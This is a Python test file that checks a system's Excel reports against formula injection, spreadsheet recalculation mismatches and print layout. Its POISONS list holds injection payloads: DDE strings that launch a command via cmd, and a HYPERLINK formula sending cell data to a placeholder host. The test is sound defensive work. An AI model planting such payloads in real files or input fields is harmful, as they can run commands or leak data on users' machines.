"""Every report of the house: no text becomes a formula, every total is what a spreadsheet program computes, every page
prints whole. A new report without a case here fails.
"""

import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from core.sheets.text import clean
from tests.house.office import pages_of, recalculated
from tests.house.reports import CASES, kinds, make, poison
from tests.house.scene import play

POISONS = [
    '=HYPERLINK("http://x.test/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    'DDE("cmd";"/C calc";"!A0")',
    "\x01\x02=1+1\x1f\ufffe",
    "_x003D_1+1",
    "𠮷溡</t></is></c><c><f>1+1</f></c>",
    "{=1+1}",
    "长" * 100_000,
]
FORMS = {"funding.e11"}  # one page to sign: no list, so neither 明细 nor repeated heads
VERBS = {"SUM", "SUBTOTAL", "COUNT", "COUNTA", "MAX", "MIN", "ROUND", "IF"}
OURS = re.compile(r"=(?:[-+*/(),.:!=A-Z0-9'\u3400-\u9fff]|\"\")*")


@pytest.fixture
def scene(world, at, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return play(world, at)


def test_every_registered_report_has_a_case():
    assert kinds() == sorted(CASES)


def formulas(path):
    """Every formula of a file; values of cells whose text starts like one."""
    book = openpyxl.load_workbook(path)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    return [c.value for c in cells if c.data_type == "f"], [c.value for c in cells if c.data_type == "s"]


def test_no_text_of_the_database_becomes_a_formula_in_any_report(scene, tmp_path):
    clean_ones = {}
    for kind in CASES:
        make(kind, scene, tmp_path / "clean.xlsx")
        clean_ones[kind] = len(formulas(tmp_path / "clean.xlsx")[0])
    for text in POISONS:
        # Postgres itself takes no NUL and no half characters; everything else gets in.
        assert poison(text) > 40
        for kind in CASES:
            path = tmp_path / "poisoned.xlsx"
            make(kind, scene, path)
            found, texts = formulas(path)
            assert (kind, text[:20], len(found)) == (kind, text[:20], clean_ones[kind])
            for formula in found:
                assert OURS.fullmatch(formula), (kind, formula)
                assert set(re.findall(r"[A-Z]+(?=\()", formula)) <= VERBS, (kind, formula)
            start = clean(text)[:6].strip()
            assert any(start in t for t in texts), (kind, text[:20])
            with zipfile.ZipFile(path) as parts:
                names = parts.namelist()
                assert not any("externalLink" in n or "hyperlink" in n.lower() for n in names)
                if kind not in FORMS:
                    assert b"<f>" not in parts.read("xl/worksheets/sheet2.xml")
                assert not any(b"<hyperlink" in parts.read(n) for n in names if n.startswith("xl/worksheets/"))


def numbers(path):
    """Every number by sheet and cell, rounded to what a float keeps of money."""
    return {
        (sheet.title, c.coordinate): round(Decimal(str(c.value)), 6)
        for sheet in openpyxl.load_workbook(path, data_only=True)
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, int | float)
    }


def test_every_total_is_what_a_spreadsheet_program_computes_and_every_page_prints_whole(scene, tmp_path):
    paths = []
    for kind in CASES:
        paths.append(tmp_path / f"{kind}.xlsx")
        make(kind, scene, paths[-1])
    for path, again in zip(paths, recalculated(paths, tmp_path), strict=True):
        assert numbers(again) == numbers(path), path.name
    for path, (text, sizes) in zip(paths, pages_of(paths, tmp_path), strict=True):
        book = openpyxl.load_workbook(path)
        first = book.worksheets[0]
        wide = {9: (842, 595), 8: (1191, 842)}[first.page_setup.paperSize]
        page = wide if first.page_setup.orientation == "landscape" else wide[::-1]
        assert set(sizes) == {page}, path.name
        if path.stem in FORMS:
            assert "###" not in text, path.name
            continue
        last_head = int(first.print_title_rows.split("$")[-1])
        heads = {
            str(c.value) for row in first.iter_rows(min_row=3, max_row=last_head) for c in row if c.value is not None
        }
        bare = re.sub(r"\s", "", text)
        missing = {h for h in heads if not all(part in bare for part in re.split(r"\s", h) if part)}
        assert missing == set(), path.name
        assert "###" not in text, path.name
